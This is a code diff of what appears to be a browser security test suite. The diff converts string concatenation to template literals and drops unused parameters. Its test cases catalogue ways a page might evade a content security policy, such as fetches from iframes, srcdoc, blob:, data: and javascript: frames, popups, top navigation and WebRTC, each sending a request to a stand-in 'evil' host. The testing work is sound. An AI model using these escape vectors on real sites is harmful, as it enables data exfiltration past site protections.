@@ -84,7 +84,7 @@ export default {
     return window[1].fetch(evil, { mode: "no-cors" });
   },
   "a frame that is still loading": ({ add, own, evil }) => {
-    add("iframe", { src: own + "/slow" });
+    add("iframe", { src: `${own}/slow` });
     return window[0].fetch(evil, { mode: "no-cors" });
   },
   "a frame whose document is written": ({ add, evil, script }) => {
@@ -107,7 +107,7 @@ export default {
     const inner = script(`fetch("${evil}", { mode: "no-cors" })`).replaceAll('"', "&quot;");
     add("iframe", { srcdoc: `<iframe srcdoc="${inner}"></iframe>` });
   },
-  "sandboxed srcdoc": ({ add, evil, script }) => {
+  "sandboxed srcdoc": ({ evil, script }) => {
     const f = document.createElement("iframe");
     f.sandbox = "allow-scripts";
     f.srcdoc = script(`fetch("${evil}", { mode: "no-cors" })`);
@@ -116,33 +116,33 @@ export default {
   "a blob: frame": ({ add, blob, evil, script }) =>
     add("iframe", { src: blob(script(`fetch("${evil}", { mode: "no-cors" })`)) }),
   "a data: frame": ({ add, evil, script }) =>
-    add("iframe", { src: "data:text/html," + script(`fetch("${evil}",{mode:"no-cors"})`) }),
+    add("iframe", { src: `data:text/html,${script(`fetch("${evil}",{mode:"no-cors"})`)}` }),
   "a javascript: frame": ({ add, evil }) => add("iframe", { src: `javascript:fetch("${evil}",{mode:"no-cors"})` }),
   "a javascript: frame that becomes markup": ({ add, evil, script }) =>
     add("iframe", { src: `javascript:'${script(`fetch("${evil}",{mode:"no-cors"})`)}'` }),
   "a frame of the site without a policy": async ({ add, own, evil }) => {
-    const f = add("iframe", { src: own + "/plain" });
+    const f = add("iframe", { src: `${own}/plain` });
     await new Promise((resolve) => (f.onload = resolve));
     return f.contentWindow.fetch(evil, { mode: "no-cors" });
   },
   "a frame of the site's by index": async ({ add, own, evil, sleep }) => {
-    add("iframe", { src: own + "/plain" });
+    add("iframe", { src: `${own}/plain` });
     await sleep(400);
     return window[0].fetch(evil, { mode: "no-cors" });
   },
   "an object of the site's": async ({ add, own, evil, sleep }) => {
-    add("object", { data: own + "/plain", type: "text/html" });
+    add("object", { data: `${own}/plain`, type: "text/html" });
     for (let at = 0; at < 20 && !window[0]?.document?.querySelector("#p"); at++) await sleep(50);
     return window[0].fetch(evil, { mode: "no-cors" });
   },
   "an embed of the site's": async ({ add, own, evil, sleep }) => {
-    add("embed", { src: own + "/plain", type: "text/html" });
+    add("embed", { src: `${own}/plain`, type: "text/html" });
     for (let at = 0; at < 20 && !window[0]?.document?.querySelector("#p"); at++) await sleep(50);
     return window[0].fetch(evil, { mode: "no-cors" });
   },
   "a frame of a frameset": async ({ evil, own, sleep }) => {
     const set = document.createElement("frameset");
-    set.append(Object.assign(document.createElement("frame"), { src: own + "/plain" }));
+    set.append(Object.assign(document.createElement("frame"), { src: `${own}/plain` }));
     document.body.replaceWith(set);
     await sleep(400);
     return window[0].fetch(evil, { mode: "no-cors" });
@@ -183,12 +183,12 @@ export default {
   "a popup with a blob: document": ({ blob, script, evil }) => void open(blob(script(`location = "${evil}"`))),
   "a popup with a javascript: URL": ({ evil }) => void open(`javascript:location="${evil}"`),
   "a popup of the site's, once loaded": async ({ own, evil, sleep }) => {
-    const w = open(own + "/plain");
+    const w = open(`${own}/plain`);
     await sleep(600);
     return w.fetch(evil, { mode: "no-cors" });
   },
   "a popup's opener": ({ script, evil }) => open("").document.write(script(`opener.location = "${evil}"`)),
-  "a frame that a fragment made": ({ add, evil }) => {
+  "a frame that a fragment made": ({ evil }) => {
     document.body.append(document.createRange().createContextualFragment("<iframe></iframe>"));
     return window[0].fetch(evil, { mode: "no-cors" });
   },
@@ -235,7 +235,7 @@ export default {
   "WebRTC of a loading frame by index": {
     hit: "datagram",
     source: async ({ add, own, port, sleep }) => {
-      add("iframe", { src: own + "/slow" });
+      add("iframe", { src: `${own}/slow` });
       const c = new window[0].RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
       c.createDataChannel("x");
       await c.setLocalDescription(await c.createOffer());
@@ -272,7 +272,7 @@ export default {
     window[0].open(evil);
   },
   "window.open of a loading frame by index": ({ add, own, evil }) => {
-    add("iframe", { src: own + "/slow" });
+    add("iframe", { src: `${own}/slow` });
     window[0].open(evil);
   },
   "window.open of srcdoc by index, before it is there": ({ add, evil }) => {
@@ -281,7 +281,7 @@ export default {
   },
   "window.open of srcdoc": ({ add, evil, script }) => add("iframe", { srcdoc: script(`open("${evil}")`) }),
   "click of a loading frame by index": ({ add, own, evil }) => {
-    add("iframe", { src: own + "/slow" });
+    add("iframe", { src: `${own}/slow` });
     const a = document.createElement("a");
     a.href = evil;
     a.target = "_blank";
@@ -295,7 +295,7 @@ export default {
     add("iframe", { srcdoc: `<a href="${evil}" target="_top">x</a>${script("document.querySelector('a').click()")}` }),
   "srcdoc that sends the page away": ({ add, evil, script }) =>
     add("iframe", { srcdoc: script(`top.location = "${evil}"`) }),
-  "a sandboxed frame that sends the page away": ({ add, evil, script }) => {
+  "a sandboxed frame that sends the page away": ({ evil, script }) => {
     const f = document.createElement("iframe");
     f.sandbox = "allow-scripts allow-top-navigation";
     f.srcdoc = script(`top.location = "${evil}"`);
@@ -308,12 +308,12 @@ export default {
     document.body.append(f);
   },
   "a popup of the site's, once loaded, its image": async ({ own, evil, sleep }) => {
-    const w = open(own + "/plain");
+    const w = open(`${own}/plain`);
     await sleep(600);
     new w.Image().src = evil;
   },
   "a popup of the site's, once loaded, goes there": async ({ own, evil, sleep }) => {
-    const w = open(own + "/plain");
+    const w = open(`${own}/plain`);
     await sleep(600);
     w.location = evil;
   },
